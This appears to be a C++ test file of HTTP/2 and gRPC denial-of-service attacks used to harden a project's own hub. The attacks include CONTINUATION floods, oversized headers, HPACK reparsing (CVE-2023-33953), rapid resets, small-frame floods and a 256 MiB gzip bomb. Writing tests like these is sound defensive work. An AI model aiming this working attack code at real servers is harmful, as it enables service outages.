#include <zlib.h>

#include <functional>
#include <memory>

#include "tests/attacks/attack.h"
#include "tests/http2_bytes.h"
#include "tests/raw_peer.h"

namespace switchboard::attacks {
namespace {

using guard::FrameType;
using testing::CallBlock;
using testing::Frame;
using testing::Hello;
using testing::RawPeer;

constexpr char kPermit[] = "/switchboard.v1.VendorService/RequestPermit";
constexpr size_t kPieceBytes = 16'000;  // below HTTP/2's smallest limit of a frame

// Sends until the hub takes no more or `bytes_max` are sent; returns how many were.
int64_t Pour(RawPeer& peer, int64_t bytes_max, const std::function<std::string()>& piece) {
  int64_t sent = 0;
  while (sent < bytes_max) {
    const std::string bytes = piece();
    if (!peer.Send(bytes)) break;
    sent += static_cast<int64_t>(bytes.size());
  }
  return sent;
}

// Says hello first; 0 for who is not let in.
int64_t PourBehind(const Attacker& attacker, const std::string& hello, int64_t bytes_max,
                   const std::function<std::string()>& piece) {
  const auto peer = RawPeer::Connect(attacker.hub_address, attacker.tls);
  if (!peer.ok() || !(*peer)->Send(hello)) return 0;
  return Pour(**peer, bytes_max, piece);
}

// Whole, in frames of sixteen thousand bytes; the last one has the flag.
std::string InFrames(FrameType first, FrameType others, uint8_t last_flag,
                     const std::string& payload) {
  std::string bytes;
  for (size_t at = 0; at < payload.size(); at += kPieceBytes) {
    const bool last = at + kPieceBytes >= payload.size();
    bytes +=
        Frame(at == 0 ? first : others, last ? last_flag : 0, 1, payload.substr(at, kPieceBytes));
  }
  return bytes;
}

// Nothing is acknowledged in these: gRPC's own limits would not hold.
int64_t HeaderBlockWithoutEnd(const Attacker& attacker) {
  const std::string piece = Frame(FrameType::kContinuation, 0, 1, std::string(kPieceBytes, '\0'));
  return PourBehind(attacker, Hello() + Frame(FrameType::kHeaders, 0, 1, CallBlock(kPermit)),
                    int64_t{32} << 20, [&] { return piece; });
}

int64_t MetadataBeyondTheLimit(const Attacker& attacker) {
  const std::string block = CallBlock(kPermit, {{"x-much", std::string(1'000'000, 'a')}});
  bool sent = false;
  return PourBehind(attacker, Hello(), 1, [&] {
    return std::exchange(sent, true) ? ""
                                     : InFrames(FrameType::kHeaders, FrameType::kContinuation,
                                                guard::kFlagEndHeaders, block);
  });
}

int64_t TenThousandStreams(const Attacker& attacker) {
  uint32_t stream = 1;
  return PourBehind(attacker, Hello(), int64_t{2} << 20, [&] {
    const std::string headers =
        Frame(FrameType::kHeaders, guard::kFlagEndHeaders, stream, CallBlock(kPermit));
    stream += 2;
    return headers;
  });
}

// With everything acknowledged.
// HPACK that is parsed again with each piece (CVE-2023-33953's kind).
int64_t HeaderBlockInTinyPieces(const Attacker& attacker) {
  const std::string hello = Hello() + testing::SettingsAck() + Frame(FrameType::kHeaders, 0, 1, "");
  const std::string piece = Frame(FrameType::kContinuation, 0, 1, "\x82");
  int64_t sent = 0;
  for (int connection = 0; connection < 4; ++connection)
    sent += PourBehind(attacker, hello, int64_t{6} << 20, [&] { return piece; });
  return sent;
}

int64_t OneHeaderOfSixteenMiB(const Attacker& attacker) {
  // A literal whose length says 16 MiB (RFC 7541, sections 5.1 and 5.2), and its bytes.
  const std::string begin = std::string("\x00\x01x\x7f\x81\xff\xff\x07", 8);
  const std::string hello = Hello() + testing::SettingsAck() +
                            Frame(FrameType::kHeaders, 0, 1, CallBlock(kPermit) + begin);
  const std::string piece = Frame(FrameType::kContinuation, 0, 1, std::string(kPieceBytes, 'v'));
  return PourBehind(attacker, hello, int64_t{16} << 20, [&] { return piece; });
}

int64_t RapidResets(const Attacker& attacker) {
  uint32_t stream = 1;
  return PourBehind(attacker, Hello() + testing::SettingsAck(), int64_t{4} << 20, [&] {
    const std::string pair =
        Frame(FrameType::kHeaders, guard::kFlagEndHeaders, stream, CallBlock(kPermit)) +
        testing::Reset(stream);
    stream += 2;
    return pair;
  });
}

int64_t FloodsOfSmallFrames(const Attacker& attacker) {
  int64_t sent = 0;
  for (const std::string& frame :
       {testing::Ping(), testing::Settings(), testing::WindowUpdate(0, 1),
        Frame(FrameType::kPriority, 0, 1, std::string(5, '\0')), Frame(FrameType::kData, 0, 1),
        Frame(static_cast<FrameType>(200), 0, 0, "x")}) {
    sent += PourBehind(attacker, Hello() + testing::SettingsAck() + testing::Call(1, kPermit),
                       int64_t{1} << 20, [&] { return frame; });
  }
  return sent;
}

std::string Zipped(size_t size) {
  const std::string plain(size, '\0');
  std::string zipped(compressBound(size) + 64, '\0');
  z_stream stream{};
  if (deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK) return "";
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(plain.data()));
  stream.avail_in = static_cast<uInt>(plain.size());
  stream.next_out = reinterpret_cast<Bytef*>(zipped.data());
  stream.avail_out = static_cast<uInt>(zipped.size());
  deflate(&stream, Z_FINISH);
  zipped.resize(stream.total_out);
  deflateEnd(&stream);
  return zipped;
}

int64_t CompressedMessage(const Attacker& attacker) {
  const std::string message = testing::Message(Zipped(size_t{256} << 20), true);
  const std::string bytes =
      Frame(FrameType::kHeaders, guard::kFlagEndHeaders, 1,
            CallBlock(kPermit, {{"grpc-encoding", "gzip"}})) +
      InFrames(FrameType::kData, FrameType::kData, guard::kFlagEndStream, message);
  bool sent = false;
  return PourBehind(attacker, Hello() + testing::SettingsAck(), 1,
                    [&] { return std::exchange(sent, true) ? "" : bytes; });
}

}  // namespace

std::vector<Attack> FrameAttacks() {
  return {
      {"HeaderBlockWithoutEnd", HeaderBlockWithoutEnd},
      {"MetadataBeyondTheLimit", MetadataBeyondTheLimit},
      {"TenThousandStreams", TenThousandStreams},
      {"HeaderBlockInTinyPieces", HeaderBlockInTinyPieces},
      {"OneHeaderOfSixteenMiB", OneHeaderOfSixteenMiB},
      {"RapidResets", RapidResets},
      {"FloodsOfSmallFrames", FloodsOfSmallFrames},
      {"CompressedMessage", CompressedMessage},
  };
}

}  // namespace switchboard::attacks
